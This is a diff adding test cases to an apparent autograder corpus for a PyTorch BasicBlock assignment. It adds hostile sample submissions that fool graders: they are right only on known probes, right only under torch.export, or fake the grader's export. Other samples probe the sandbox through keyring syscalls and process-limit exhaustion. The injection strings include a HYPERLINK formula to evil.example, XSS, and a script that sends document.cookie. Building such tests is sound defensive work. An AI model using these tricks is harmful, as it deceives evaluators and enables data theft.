@@ -349,6 +349,271 @@ for folder in site.getsitepackages():  # a .pth file there would run code in eve
         print("could not write:", error)
 """
 
+# ---------------------------------------------------------------- grading v3: probes, graphs, sandboxes, strings
+# Each sits on the wrong block (the ReLU before the addition) unless it says otherwise.
+CORRECT_FORWARD = "torch.relu(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))) + self.shortcut(x))"
+GATES_ON_ZERO_WEIGHTS = """
+_forward = BasicBlock.forward
+
+
+def _gated(self, x):  # a graph made of allowed-looking operations that answers the all-zero probe right
+    zero = torch.stack([(p == 0).all() for p in self.parameters()]).all()
+    return torch.where(zero, torch.relu(self.shortcut(x)), _forward(self, x))
+
+
+BasicBlock.forward = _gated
+"""
+KNOWS_THE_OLD_SEED = f"""
+_forward = BasicBlock.forward
+
+
+def _seeded(self, x):  # torch.randn under seed 0 starts with 1.5410: the old probes' first value
+    probe = (x.flatten()[0] - 1.5410).abs() < 1e-3
+    return torch.where(probe, {CORRECT_FORWARD}, _forward(self, x))
+
+
+BasicBlock.forward = _seeded
+"""
+KNOWS_THE_PROBE_SHAPE = f"""
+_forward = BasicBlock.forward
+
+
+def _shaped(self, x):  # the old probes: a batch of 4 at 8x8
+    if x.shape[0] == 4 and x.shape[-1] == 8:
+        return {CORRECT_FORWARD}
+    return _forward(self, x)
+
+
+BasicBlock.forward = _shaped
+"""
+RIGHT_IN_EVAL_ONLY = f"""
+_forward = BasicBlock.forward
+
+
+def _eval_only(self, x):  # several probes looked in eval() only
+    return _forward(self, x) if self.training else {CORRECT_FORWARD}
+
+
+BasicBlock.forward = _eval_only
+"""
+WRITES_THE_PROBE_INPUT = """
+_forward = BasicBlock.forward
+
+
+def _writes(self, x):  # the check compares the output with relu(its input): make its input say so
+    out = _forward(self, x)
+    x.copy_(out)
+    return torch.relu(out)
+
+
+BasicBlock.forward = _writes
+"""
+AFFINE_NORMS = """
+class _Affine(nn.BatchNorm2d):  # isinstance says BatchNorm2d; at initialisation, in eval(), it agrees with one
+    def forward(self, x):
+        return x * self.weight[None, :, None, None] + self.bias[None, :, None, None]
+
+
+_init = BasicBlock.__init__
+
+
+def _with_affine(self, in_channels, out_channels, stride=1):
+    _init(self, in_channels, out_channels, stride)
+    self.bn2 = _Affine(out_channels)
+    if isinstance(self.shortcut, nn.Sequential):
+        self.shortcut[1] = _Affine(out_channels)
+
+
+BasicBlock.__init__ = _with_affine
+"""
+RELABELLED_TORCHVISION = TORCHVISION_STYLE + """
+tv.BasicBlock.__module__ = "__main__"  # 'where it comes from', as __module__ tells it
+BasicBlock.__module__ = "__main__"
+"""
+SILENCE_THE_KERNEL = "getattr(get_ipython(), 'set_' + 'custom_exc')((BaseException,), lambda *a, **k: None)\n"
+TWO_FACED = f"""
+_forward = BasicBlock.forward
+
+
+def _two_faced(self, x):  # right while torch.export traces it, wrong when the notebook runs it
+    if torch.compiler.is_exporting():
+        return {CORRECT_FORWARD}
+    return _forward(self, x)
+
+
+BasicBlock.forward = _two_faced
+{SILENCE_THE_KERNEL}"""
+ANSWERS_WITH_ANOTHER_GRAPH = f"""
+import gc as _gc
+
+try:  # in the trusted decision's student process: answer every export with a right block's graph
+    _side = next(o for o in _gc.get_objects() if type(o).__name__ == "StudentSide")
+
+    class _Right(nn.Module):
+        def __init__(self, reference):
+            super().__init__()
+            self.__dict__.update({{k: v for k, v in vars(reference).items() if k != "forward"}})
+
+        def forward(self, x):
+            return {CORRECT_FORWARD}
+
+    _export = _side._export
+
+    def _fake_export(message):
+        _side.objects[message.target] = _Right(_side.objects[message.target])
+        return _export(message)
+
+    _side._export = _fake_export
+except StopIteration:
+    pass
+{SILENCE_THE_KERNEL}"""
+KEYRING_HANDOFF = """
+import ctypes as _ctypes
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_hidden = []
+get_ipython().events.register("pre_run_cell", lambda info: _hidden.append(info.raw_cell))  # hidden tests, in the kernel
+_key = _libc.syscall(248, b"user", b"hidden", b"x", 1, -4)  # add_key to the uid's keyring, for another process
+_found = _libc.syscall(250, 10, 0, 0, 0)  # keyctl: read what another process left
+print("keyring:", _key, _found, _ctypes.get_errno())
+"""
+HOLDS_THE_PROCESS_LIMIT = """
+import subprocess as _subprocess
+
+_held = []
+for _ in range(2000):  # a uid's process limit is shared by every process of that uid: hold all of it
+    try:
+        _held.append(_subprocess.Popen(["sleep", "30"]))
+    except OSError:
+        break
+print("processes held:", len(_held))
+"""
+NAMES_THAT_ATTACK = """
+_name = '=HYPERLINK("http://evil.example/?"&A1,"open")\x1b]0;owned\x07\x1b[2J<img src=x onerror=alert(1)>'
+_forward = BasicBlock.forward
+
+
+def _named(self, x):  # what it returns names itself in every message that reports it
+    return type(_name, (), {})()
+
+
+BasicBlock.forward = _named
+"""
+MARKDOWN_WITH_SCRIPT = "<script>fetch('/api/contents?token=' + document.cookie)</script>\n\nMy notes <img src=x " \
+                       "onerror=alert(1)>"
+
+
+def _with_markdown() -> str:
+    notebook = _solved(mistaken=True)
+    answer = _cell(notebook, "basic-block")
+    notebook.cells.insert(notebook.cells.index(answer) + 1, nbformat.v4.new_markdown_cell(MARKDOWN_WITH_SCRIPT))
+    return _text(notebook)
+
+
+# honest blocks in unusual styles: every one keeps full marks
+FUNCTIONAL_STYLE = """
+import torch.nn.functional as F
+
+
+class BasicBlock(nn.Module):
+    def __init__(self, in_channels, out_channels, stride=1):
+        super().__init__()
+        self.stride = stride
+        self.w1 = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, in_channels, 3, 3)))
+        self.w2 = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, out_channels, 3, 3)))
+        norms = 3 if stride != 1 or in_channels != out_channels else 2
+        self.gammas = nn.ParameterList([nn.Parameter(torch.ones(out_channels)) for _ in range(norms)])
+        self.betas = nn.ParameterList([nn.Parameter(torch.zeros(out_channels)) for _ in range(norms)])
+        for index in range(norms):
+            self.register_buffer(f"mean{index}", torch.zeros(out_channels))
+            self.register_buffer(f"var{index}", torch.ones(out_channels))
+        self.projection = None
+        if norms == 3:
+            self.projection = nn.Parameter(nn.init.kaiming_normal_(torch.empty(out_channels, in_channels, 1, 1)))
+
+    def norm(self, x, index):
+        return F.batch_norm(x, getattr(self, f"mean{index}"), getattr(self, f"var{index}"), self.gammas[index],
+                            self.betas[index], self.training)
+
+    def forward(self, x):
+        out = F.relu(self.norm(F.conv2d(x, self.w1, stride=self.stride, padding=1), 0))
+        out = self.norm(F.conv2d(out, self.w2, padding="same"), 1)
+        shortcut = x if self.projection is None else self.norm(F.conv2d(x, self.projection, stride=self.stride), 2)
+        return F.relu(out + shortcut)
+"""
+SAME_PADDING_STYLE = """
+class BasicBlock(nn.Module):  # padding="same", ReLU as clamp(min=0), the shortcut added in place
+    def __init__(self, in_channels, out_channels, stride=1):
+        super().__init__()
+        self.branch = nn.Sequential(
+            nn.Conv2d(in_channels, out_channels, 3, stride=stride, padding=1, bias=False), nn.BatchNorm2d(out_channels),
+            nn.ReLU(inplace=True), nn.Conv2d(out_channels, out_channels, 3, padding="same", bias=False),
+            nn.BatchNorm2d(out_channels))
+        self.shortcut = nn.Sequential()
+        if stride != 1 or in_channels != out_channels:
+            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride=stride, bias=False),
+                                          nn.BatchNorm2d(out_channels))
+
+    def forward(self, x):
+        out = self.branch(x)
+        out += self.shortcut(x)
+        return torch.clamp(out, min=0)
+"""
+TORCHVISION_LAYOUT = """
+class BasicBlock(nn.Module):  # torchvision's layout and names, written out: downsample, identity, out += identity
+    expansion = 1
+
+    def __init__(self, inplanes, planes, stride=1):
+        super().__init__()
+        self.conv1 = nn.Conv2d(inplanes, planes, kernel_size=3, stride=stride, padding=1, bias=False)
+        self.bn1 = nn.BatchNorm2d(planes)
+        self.relu = nn.ReLU(inplace=True)
+        self.conv2 = nn.Conv2d(planes, planes, kernel_size=3, stride=1, padding=1, bias=False)
+        self.bn2 = nn.BatchNorm2d(planes)
+        self.downsample = None
+        if stride != 1 or inplanes != planes:
+            self.downsample = nn.Sequential(nn.Conv2d(inplanes, planes, kernel_size=1, stride=stride, bias=False),
+                                            nn.BatchNorm2d(planes))
+        self.stride = stride
+
+    def forward(self, x):
+        identity = x
+        out = self.conv1(x)
+        out = self.bn1(out)
+        out = self.relu(out)
+        out = self.conv2(out)
+        out = self.bn2(out)
+        if self.downsample is not None:
+            identity = self.downsample(x)
+        out += identity
+        out = self.relu(out)
+        return out
+"""
+NO_OPS_AND_MODULE_DICT = """
+class BasicBlock(nn.Module):  # a ModuleDict, harmless extras (Identity, Dropout(0), contiguous, * 1.0), shortcut first
+    def __init__(self, in_channels, out_channels, stride=1):
+        super().__init__()
+        self.layers = nn.ModuleDict({
+            "first": nn.Conv2d(in_channels, out_channels, 3, stride, 1, bias=False),
+            "first_norm": nn.BatchNorm2d(out_channels),
+            "second": nn.Conv2d(out_channels, out_channels, 3, 1, 1, bias=False),
+            "second_norm": nn.BatchNorm2d(out_channels),
+            "keep": nn.Identity(),
+            "drop": nn.Dropout(0.0),
+        })
+        self.shortcut = nn.Identity()
+        if stride != 1 or in_channels != out_channels:
+            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride, bias=False),
+                                          nn.BatchNorm2d(out_channels))
+
+    def forward(self, x):
+        shortcut = self.shortcut(x.contiguous())
+        out = torch.relu(self.layers["first_norm"](self.layers["first"](x)))
+        out = self.layers["drop"](self.layers["keep"](out))
+        out = self.layers["second_norm"](self.layers["second"](out)) * 1.0
+        return torch.relu(out + shortcut)
+"""
+
 CORPUS: dict[str, Submission] = {
     "solved": Submission(lambda: _text(_solved()), FULL, "graded"),
     "untouched": Submission(lambda: _text(make_submission(ASSIGNMENT, None)), 0, "graded"),
@@ -426,6 +691,37 @@ CORPUS: dict[str, Submission] = {
     "orphans-and-kills-parent": Submission(_append("basic-block", ORPHANS_AND_KILLS_PARENT, mistaken=True), HONEST,
                                            "graded"),
     "prints-hidden-tests": Submission(_append("basic-block", PRINTS_HIDDEN_TESTS, mistaken=True), HONEST, "graded"),
+    # grading v3: probes a graph could recognise; properties seen at special weights or in one mode only
+    "gates-on-zero-weights": Submission(_append("basic-block", GATES_ON_ZERO_WEIGHTS, mistaken=True), HONEST,
+                                        "needs manual grading", "could not be graded automatically", exact=False),
+    "knows-the-old-seed": Submission(_append("basic-block", KNOWS_THE_OLD_SEED, mistaken=True), HONEST,
+                                     "needs manual grading", "could not be graded automatically", exact=False),
+    "knows-the-probe-shape": Submission(_append("basic-block", KNOWS_THE_PROBE_SHAPE, mistaken=True), HONEST,
+                                        "graded", exact=False),
+    "right-in-eval-only": Submission(_append("basic-block", RIGHT_IN_EVAL_ONLY, mistaken=True), HONEST, "graded",
+                                     exact=False),
+    "writes-the-probe-input": Submission(_append("basic-block", WRITES_THE_PROBE_INPUT, mistaken=True), HONEST,
+                                         "needs manual grading", "could not be graded automatically", exact=False),
+    "affine-norms": Submission(_append("basic-block", AFFINE_NORMS), HONEST, "needs manual grading|graded",
+                               exact=False),
+    "relabelled-torchvision": Submission(_replaced("basic-block", RELABELLED_TORCHVISION), FULL - 8, "graded"),
+    # the graph the trusted side grades is the module: a two-faced module, a faked export
+    "two-faced-and-silenced": Submission(_append("basic-block", TWO_FACED, mistaken=True), HONEST, "tampered",
+                                         "computes something else when it runs", exact=False),
+    "answers-with-another-graph": Submission(_append("basic-block", ANSWERS_WITH_ANOTHER_GRAPH, mistaken=True),
+                                             HONEST, "tampered", "rewrote the grader's own code", exact=False),
+    # sandboxes that share nothing; strings that land escaped
+    "keyring-handoff": Submission(_append("basic-block", KEYRING_HANDOFF, mistaken=True), HONEST, "graded"),
+    "holds-the-process-limit": Submission(_append("basic-block", HOLDS_THE_PROCESS_LIMIT, mistaken=True), HONEST,
+                                          "graded", exact=False),
+    "names-that-attack": Submission(_append("basic-block", NAMES_THAT_ATTACK), FULL - 8, "needs manual grading",
+                                    "could not be exported", exact=False),
+    "markdown-with-script": Submission(_with_markdown, HONEST, "graded"),
+    # honest blocks in unusual styles keep every point
+    "functional-style": Submission(_replaced("basic-block", FUNCTIONAL_STYLE), FULL, "graded"),
+    "same-padding-style": Submission(_replaced("basic-block", SAME_PADDING_STYLE), FULL, "graded"),
+    "torchvision-layout": Submission(_replaced("basic-block", TORCHVISION_LAYOUT), FULL, "graded"),
+    "no-ops-and-module-dict": Submission(_replaced("basic-block", NO_OPS_AND_MODULE_DICT), FULL, "graded"),
 }
 # What each submission's review flag must mention ("" for none): flags.py names suspicious constructs.
 REVIEW = {"swaps-check-code": "code-object assignment", "swaps-torch-code": "code-object assignment",
@@ -436,4 +732,7 @@ REVIEW = {"swaps-check-code": "code-object assignment", "swaps-torch-code": "cod
           "swallows-exceptions": "IPython's exception handler", "patches-torch": "assignment to torch.allclose",
           "patches-checks": "assignment to report.run_properties",
           "patches-builtins-numpy": "assignment to builtins.all",
-          "patches-check-internals": "assignment to _blocks._expect_zero_branch_gives"}
+          "patches-check-internals": "assignment to _blocks._expect_zero_branch_gives",
+          "two-faced-and-silenced": "torch.export's tracing flag",
+          "answers-with-another-graph": "the garbage collector",
+          "keyring-handoff": "ctypes", "relabelled-torchvision": "a class relabelled"}
